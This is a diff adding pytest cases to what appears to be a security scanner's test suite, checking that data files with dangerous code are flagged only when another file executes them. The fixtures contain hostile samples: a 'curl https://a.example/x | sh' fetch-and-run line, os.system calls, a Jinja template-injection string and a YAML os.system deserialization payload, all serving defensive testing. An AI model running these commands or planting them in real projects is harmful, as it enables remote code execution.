@@ -130,6 +130,42 @@ def test_data_file_is_an_unread_program_only_if_another_file_runs_it_or_copies_i
     assert reasons == ([UnreadReason.PROGRAM] if program else [])
 
 
+@pytest.mark.parametrize(
+    ("name", "command", "program"),
+    [
+        ("run.sh", "bash data.txt\n", "curl https://a.example/x | sh\n"),
+        ("run.sh", "source data.txt\n", "curl https://a.example/x | sh\n"),
+        ("run.sh", "cat data.txt | python3\n", 'import os\nos.system("id")\n'),
+        ("run.sh", "bash data.txt\n", "python3 -c 'import os; os.system(\"id\")'\n"),
+        ("tasks.json", '{"command": "python3", "args": ["data.txt"]}', 'import os\nos.system("id")\n'),
+        ("x.yaml", "run: python3 data.txt\n", 'import os\nos.system("id")\n'),
+    ],
+)
+def test_dangerous_program_in_a_data_file_fails_the_scan_only_if_another_file_runs_it_in_its_language(
+    tmp_path: Path, name: str, command: str, program: str
+) -> None:
+    (tmp_path / "data.txt").write_text(program)
+    assert modelaudit.scan(tmp_path, second_opinion=False, checks=("security",)).exit_code == 0
+    (tmp_path / name).write_text(command)
+    report = modelaudit.scan(tmp_path, second_opinion=False, checks=("security",))
+    assert report.exit_code == 1
+    assert {finding.artifact.partition("!")[0] for finding in report.findings} == {"data.txt"}
+
+
+def test_prose_in_a_data_file_that_python_would_refuse_yields_an_absence_and_no_finding(tmp_path: Path) -> None:
+    (tmp_path / "data.txt").write_text("Never call os.system(x) or eval(x) here.\n")
+    (tmp_path / "x.yaml").write_text("run: python3 data.txt\n")
+    report = modelaudit.scan(tmp_path, second_opinion=False, checks=("security",))
+    assert (report.exit_code, report.findings) == (3, ())
+
+
+def test_file_that_a_python_program_executes_is_an_unread_program(tmp_path: Path) -> None:
+    (tmp_path / "data.txt").write_text("a b\n")
+    (tmp_path / "x.py").write_text('exec(open("data.txt").read())\n')
+    (record, _) = modelaudit.scan(tmp_path, second_opinion=False).coverage.artifacts
+    assert [absence.unread.reason for _, absence in record.absences] == [UnreadReason.PROGRAM]
+
+
 JINJA_ATTACK = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
 YAML_CALL = "a: !!python/object/apply:os.system [id]\n"
 
